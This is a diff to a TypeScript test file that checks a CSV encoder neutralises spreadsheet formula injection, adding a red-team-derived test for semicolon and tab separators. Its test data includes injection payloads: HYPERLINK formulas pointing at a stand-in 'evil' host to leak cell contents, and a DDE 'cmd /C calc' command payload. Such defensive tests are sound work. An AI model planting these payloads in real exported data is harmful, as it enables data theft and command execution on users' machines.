@@ -1,6 +1,6 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { csvCell, toCsv, toJson, toNdjson, CSV_COLUMNS } from '../../src/events/encode.js';
+import { csvCell, csvRow, toCsv, toJson, toNdjson, CSV_COLUMNS } from '../../src/events/encode.js';
 import { EVENTS_DOC_PATH, renderEventsDoc } from '../../scripts/events-doc.js';
 import { sampleEvent, sampleHeartbeat } from '../../src/events/sample.js';
 import { disputeEvent } from '../../src/events/build.js';
@@ -136,10 +136,36 @@ describe('encodings', () => {
     expect(csvCell('+81 3')).toBe("'+81 3");
     expect(csvCell('-2')).toBe("'-2");
     expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(csvCell('\tx')).toBe("'\tx");
+    expect(csvCell('\tx')).toBe('"\'\tx"');
     expect(csvCell('\rx')).toBe('"\'\rx"');
     expect(csvCell('=HYPERLINK("http://evil/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""click"")"');
     expect(csvCell('秘—設計書.docx')).toBe('秘—設計書.docx');
+  });
+
+  it('CSV: no formula after a semicolon or tab either, for a spreadsheet that splits there (red team coll7 F5)', () => {
+    // RFC 4180 fields as a spreadsheet reads them with `sep` as its separator (Excel: the locale's list
+    // separator, `;` in most of Europe; LibreOffice: whichever of tab, comma, semicolon is ticked).
+    const fields = (line: string, sep: string) => {
+      const out: string[] = [];
+      let cur = '';
+      let quoted = false;
+      for (let i = 0; i < line.length; i++) {
+        const ch = line[i]!;
+        if (quoted && ch === '"' && line[i + 1] === '"') {
+          cur += '"';
+          i++;
+        } else if (ch === '"') quoted = !quoted;
+        else if (!quoted && ch === sep) {
+          out.push(cur);
+          cur = '';
+        } else cur += ch;
+      }
+      return [...out, cur];
+    };
+    const names = ['report;=HYPERLINK("http://evil/","x").xlsx', 'a\t=1+1', 'b;+cmd|\' /C calc\'!A0', 'c; @SUM(1)', 'd\t-2'];
+    const line = csvRow(names).replace(/\r\n$/, '');
+    for (const sep of [',', ';', '\t']) for (const f of fields(line, sep)) expect(f, `separator ${JSON.stringify(sep)}`).not.toMatch(/^\s*[=+\-@]/);
+    expect(fields(line, ',')).toEqual(names);
   });
 
   it('CSV: BOM, header, one CRLF-terminated row per event', () => {
